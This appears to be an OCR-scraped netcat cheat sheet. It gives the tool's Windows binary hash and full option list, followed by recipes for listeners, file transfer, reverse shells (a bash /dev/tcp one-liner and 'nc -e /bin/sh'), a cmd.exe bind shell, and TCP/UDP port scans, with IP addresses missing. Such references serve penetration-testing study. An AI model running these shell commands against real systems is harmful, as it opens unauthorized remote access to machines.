Netcat, arbitrary TCPand UDP connections and listens.

Binary for Windows

  • nc.exe (58 kb)
    • SHA256 ’nc.exe’ - be4211fe5c1a19ff393a2bcfa21dad8d0a687663263a63789552bda446d9421bnc [-46CDdFhklNnrStUuvZz] [-I length] [-i interval] [-M ttl]


          [-m minttl] [-O length] [-P proxy_username] [-p source_port]
          [-q seconds] [-s source] [-T keyword] [-Vrtable] [-W recvlimit] [-w timeout]
          [-X proxy_protocol] [-x proxy_address[:port]]       [destination] [port]
        Command Summary:
            -4      Use IPv4
            -6      Use IPv6
            -b      Allow broadcast
            -C      Send CRLF as line-ending
            -D      Enable the debug socket option
            -d      Detach from stdin
            -F      Pass socket fd
            -h      This help text
            -I length   TCP receive buffer length
            -i interval Delay interval for lines sent, ports scanned
            -k      Keep inbound sockets open for multiple connects
            -l      Listen mode, for inbound connects
            -M ttl      Outgoing TTL / Hop Limit
            -m minttl   Minimum incoming TTL / Hop Limit
            -N      Shutdown the network socket after EOF on stdin
            -n      Suppress name/port resolutions
            -O length   TCP send buffer length
            -P proxyuser    Username for proxy authentication
            -p port     Specify local port for remote connects
            -q secs     quit after EOF on stdin and delay of secs
            -r      Randomize remote ports
            -S      Enable the TCP MD5 signature option
            -s source   Local source address
            -T keyword  TOS value
            -t      Answer TELNET negotiation
            -U      Use UNIX domain socket
            -u      UDP mode
            -V rtable   Specify alternate routing table
            -v      Verbose
            -W recvlimit    Terminate after receiving a number of packets
            -w timeout  Timeout for connects and final net reads
            -X proto    Proxy protocol: "4", "5" (SOCKS) or "connect"
            -x addr[:port]  Specify proxy address and port
            -Z      DCCP mode
            -z      Zero-I/O mode [used for scanning]
        Port numbers can be individualor ranges: lo-hi [inclusive]


    Create a Netcat listener

    This listener will listen on specific IP and port. IP can be removed if any interface is needed.

    nc -lvp 80Transferring files


    nc -nlvp 4444 > incomming.exe


    nc -nv 4444 < /Downloads/wget.exe

    Reverse Shell


    nc -nlvp 4444

    Identity connecting and sending the reverse shell:

    bash -i >& /dev/tcp/ 0>&1OR identity connecting and sending the reverse shell:

    nc 4444 -e /bin/sh

    Bind Shell


    nc -nlvp 4444 -e cmd.exe

    Identity connecting to bind shell::

    nc -nv <ip> 4444

    PortScanning (TCP)

    Note: NetCat port scanning is based on the three-way handshake.nc -nvv -w 1 -z 3380-3390

    Port Scanning (UDP)nc -nv -u -z -w 1 160-162

    URL List